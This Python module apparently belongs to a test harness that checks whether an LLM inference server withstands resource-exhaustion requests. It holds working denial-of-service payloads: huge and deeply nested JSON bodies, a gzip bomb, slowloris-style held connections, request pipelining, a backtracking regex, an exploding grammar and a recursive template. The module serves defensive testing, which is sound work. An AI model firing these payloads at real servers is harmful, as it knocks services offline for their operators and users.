"""Requests that cost the server much and their sender little: long, many, deep, compressed, slow."""

from __future__ import annotations

import gzip
import json
import socket
import threading
import time
from collections.abc import Callable, Sequence
from contextlib import ExitStack, suppress
from typing import Any

from attack import Attack
from target import Target

CHAT = "/v1/chat/completions"
_WORDS = "word " * 11_400_000  # 57 MB


def _refused(
    path: str, body: Callable[[], Any], statuses: Sequence[int] = (400,), **headers: str
) -> Callable[[Target], str]:
    """Sends it, and is content with one of `statuses`."""

    def run(target: Target) -> str:
        status, text = target.ask(path, body(), headers=headers)
        return "" if status in statuses else f"{status}: {text[:200]}"

    return run


def _large(
    name: str, path: str, body: Callable[[], Any], statuses: Sequence[int] = (400,), times: int = 1, **headers: str
) -> Attack:
    """The same with a body that takes its sender long to make: once, before it is sent, again and again."""
    made: list[bytes] = []

    def make() -> None:
        content = body()
        made.append(content if isinstance(content, bytes) else json.dumps(content).encode())

    send = _several(times, _refused(path, lambda: made[0], statuses, **headers))

    return Attack(name, send, is_load=True, prepare=make, tidy=made.clear)


def _said(text: str, **more: Any) -> dict[str, Any]:
    return {"messages": [{"role": "user", "content": text}], **more}


def _several(count: int, ask: Callable[[Target], str]) -> Callable[[Target], str]:
    """So many at once."""

    def run(target: Target) -> str:
        problems: list[str] = []
        threads = [threading.Thread(target=lambda: problems.append(ask(target))) for _ in range(count)]
        for one in threads:
            one.start()
        for one in threads:
            one.join()
        return next(filter(None, problems), "")

    return run


def _left(path: str, body: Any, count: int) -> Callable[[Target], str]:
    """Sends it so many times, and leaves each time."""
    data = json.dumps(body).encode()
    head = f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: {len(data)}\r\n\r\n".encode()

    def run(target: Target) -> str:
        for _ in range(count):
            with target.connected() as raw:
                raw.sendall(head + data)
                time.sleep(0.1)
        return ""

    return run


def _held_open(count: int, piece: bytes, seconds: float) -> Callable[[Target], str]:
    """So many connections, on each of which `piece` is sent first and a byte a second then."""

    def run(target: Target) -> str:
        with ExitStack() as stack:
            connections = [stack.enter_context(target.connected()) for _ in range(count)]
            for one in connections:
                one.sendall(piece)
            for _ in range(round(seconds)):
                time.sleep(1)
                for one in connections:
                    with suppress(OSError):
                        one.send(b"x")
        return ""

    return run


def _long_answers(target: Target, read: Callable[[socket.socket], object]) -> str:
    """Twenty who ask for long answers, and `read` them, or not."""
    body = json.dumps({"prompt": "Once", "n_predict": 300, "ignore_eos": True, "stream": True, "n_probs": 50}).encode()
    head = b"POST /completion HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Length: %d\r\n\r\n" % len(
        body
    )
    with ExitStack() as stack:
        reading = []
        for _ in range(20):
            raw = stack.enter_context(target.connected())
            raw.sendall(head + body)
            reading.append(threading.Thread(target=read, args=(raw,)))
            reading[-1].start()
        for one in reading:
            one.join()
    return ""


def _read(raw: socket.socket) -> None:
    with suppress(OSError):
        while raw.recv(65536):
            pass


def _sent_ahead(target: Target) -> str:
    one = b"GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n"
    answer = target.exchange(one * 2000)
    return "" if answer.count(b"200 OK") <= 2000 else "more answers than questions"


def _answer_of(n_tokens: int) -> Callable[[Target], str]:
    """What whoever asks for an answer has computed, and takes from others."""
    return _refused("/completion", lambda: {"prompt": "x", "n_predict": n_tokens, "ignore_eos": True}, (200,))


def _many_answers(target: Target) -> str:
    status, text = target.ask("/v1/completions", {"prompt": "Once", "n": 128, "max_tokens": 100, "ignore_eos": True})
    return "" if status == 200 else f"{status}: {text[:200]}"


_LARGE_TEXTS = {"content": ["word " * 150_000] * 4}
_DOUBLING = 'root ::= "a" root "b" | "a" root "c"'
_DEEP_SCHEMA: dict[str, Any] = {"type": "object"}
for _level in range(60):
    _DEEP_SCHEMA = {"type": "object", "properties": {f"p{i}": _DEEP_SCHEMA for i in range(1)}}

ATTACKS = (
    _large("57 MB to count tokens of", "/tokenize", lambda: {"content": _WORDS}),
    _large("57 MB as a message", CHAT, lambda: _said(_WORDS)),
    _large("57 MB as a prompt", "/completion", lambda: {"prompt": _WORDS}),
    _large("57 MB for a vector", "/v1/embeddings", lambda: {"input": _WORDS}),
    _large("57 MB as a gap's prefix", "/infill", lambda: {"input_prefix": _WORDS, "input_suffix": ""}, (400, 501)),
    _large("500 long texts for vectors", "/v1/embeddings", lambda: {"input": [_WORDS[:40_000]] * 500}),
    _large(
        "a long query for 2,000 documents", "/rerank", lambda: {"query": _WORDS[:100_000], "documents": ["a"] * 2000}
    ),
    _large("a million objects", CHAT, lambda: b'{"messages":[' + b'{"role":"user","content":"a"},' * 10**6 + b"{}]}"),
    _large("three million keys", CHAT, lambda: b'{"x":{' + b",".join(b'"k%d":1' % i for i in range(3 * 10**6)) + b"}}"),
    _large("twenty million numbers", "/completion", lambda: b'{"prompt":[' + b"1," * (20 * 10**6) + b"1]}"),
    _large("brackets without end", CHAT, lambda: b'{"messages":' + b"[" * (30 * 10**6)),
    _large("quotes without end", CHAT, lambda: b'{"messages":[' + b'"",' * (15 * 10**6)),
    _large(
        "300 MB in 290 KB of gzip",
        "/completion",
        lambda: gzip.compress(b'{"prompt":"' + b"a" * (300 * 10**6) + b'"}'),
        (413,),
        **{"Content-Encoding": "gzip"},
    ),
    _large("more than 64 MiB", "/completion", lambda: b"x" * (65 * 2**20), (413,)),
    _large("six large texts at once", "/tokenize", lambda: _LARGE_TEXTS, (200,), times=6),
    Attack("large texts that are left, 12 times", _left("/tokenize", _LARGE_TEXTS, 12), is_load=True),
    Attack("one request for 128 answers", _many_answers, is_load=True, honestly=_answer_of(100)),
    Attack("64 requests that are left", _left(CHAT, _said("Tell me a story.", max_tokens=500), 64), is_load=True),
    Attack("300 silent connections", _held_open(300, b"", 5), is_load=True),
    Attack("50 heads that do not end", _held_open(50, b"POST /completion HTTP/1.1\r\nX-Slow: ", 5), is_load=True),
    Attack(
        "50 bodies that do not end",
        _held_open(50, b"POST /completion HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n{", 5),
        is_load=True,
    ),
    Attack(
        "20 answers that are not read",
        lambda target: _long_answers(target, lambda _raw: time.sleep(5)),
        is_load=True,
        honestly=lambda target: _long_answers(target, _read),
    ),
    Attack("2,000 requests sent ahead", _sent_ahead, is_load=True),
    Attack(
        "a grammar whose ways double",
        _refused("/completion", lambda: {"prompt": "x", "grammar": _DOUBLING, "n_predict": 200}),
        is_load=True,
        honestly=_answer_of(200),
    ),
    Attack(
        "a pattern that is long to follow",
        _refused(
            "/completion",
            lambda: {
                "prompt": "x",
                "n_predict": 50,
                "json_schema": {"type": "string", "pattern": "^(a{1,500}){1,500}$"},
            },
            (200, 400),
        ),
        is_load=True,
        honestly=_answer_of(50),
    ),
    Attack(
        "a deep schema",
        _refused("/completion", lambda: {"prompt": "x", "n_predict": 20, "json_schema": _DEEP_SCHEMA}, (200, 400)),
        is_load=True,
        honestly=_answer_of(20),
    ),
    Attack(
        "a template that repeats itself",
        _refused(
            "/api/generate",
            lambda: {"model": "demo", "prompt": "x", "template": "{{ range .Messages }}" * 5000},
            (400,),
        ),
        is_load=True,
    ),
    Attack(
        "a hundred thousand biases",
        _refused(
            "/completion",
            lambda: {"prompt": "x", "n_predict": 1, "logit_bias": [[i % 500, 1.0] for i in range(90_000)]},
            (200, 400),
        ),
        is_load=True,
    ),
    Attack(
        "ten thousand stop strings",
        _refused("/completion", lambda: {"prompt": "x", "stop": ["s"] * 10_000}),
        is_load=True,
        honestly=_answer_of(1),
    ),
)
